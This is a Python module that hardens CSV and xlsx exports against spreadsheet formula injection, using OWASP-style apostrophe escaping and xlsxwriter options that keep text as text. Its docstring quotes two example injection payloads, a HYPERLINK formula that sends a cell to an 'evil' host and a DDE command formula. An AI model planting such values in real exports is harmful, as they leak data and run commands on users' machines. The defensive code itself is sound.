"""Exports that a spreadsheet cannot be tricked into running (CSV/formula injection, OWASP).

A value read from an import or typed into a form — a firm's name, an address, an audit target —
can start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return; opened in Excel or WPS such a
cell becomes a formula (``=HYPERLINK("http://evil/?"&A1, "点击")``, ``=cmd|' /C calc'!A0``).

- **xlsx**: every workbook Shanhai writes is opened through :func:`workbook`, which forces
  ``strings_to_formulas``, ``strings_to_numbers`` and ``strings_to_urls`` off: text is always written
  as a text cell, never as a formula or link, and is shown unchanged. Formulas Shanhai itself
  means to write go through ``write_formula`` explicitly.
- **csv** (no cell types): :func:`cell` prefixes such text with an apostrophe, as OWASP advises,
  so it reads as text when opened. Numbers (negative ones included) stay numbers, and so does text
  that is nothing but a number (``-12.5``).
"""

from __future__ import annotations

import csv
import re
from decimal import Decimal

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

XLSX_OPTIONS = {"strings_to_numbers": False, "strings_to_formulas": False, "strings_to_urls": False,
                "nan_inf_to_errors": True}


def is_dangerous(value) -> bool:
    """True for text a spreadsheet would take as a formula."""
    return (isinstance(value, str) and value.startswith(DANGEROUS)
            and not _PLAIN_NUMBER.fullmatch(value))


def cell(value):
    """``value`` made inert for a CSV cell: dangerous text gets a leading apostrophe."""
    if is_dangerous(value):
        return "'" + value
    return value


def row(values) -> list:
    return [cell(v) for v in values]


class SafeWriter:
    """``csv.writer`` whose rows pass through :func:`cell`."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values) -> None:
        self._writer.writerow(row(values))

    def writerows(self, rows) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(stream, **kwargs) -> SafeWriter:
    return SafeWriter(stream, **kwargs)


def workbook(target, options: dict | None = None):
    """An ``xlsxwriter.Workbook`` on ``target`` (a path or a buffer) with text never turned into
    formulas, numbers or links, whatever ``options`` say."""
    import xlsxwriter

    return xlsxwriter.Workbook(target, {**(options or {}), **XLSX_OPTIONS})


def number(value):
    """Money as Decimal stays exact in a CSV (str), other numbers pass through unchanged."""
    return str(value) if isinstance(value, Decimal) else value
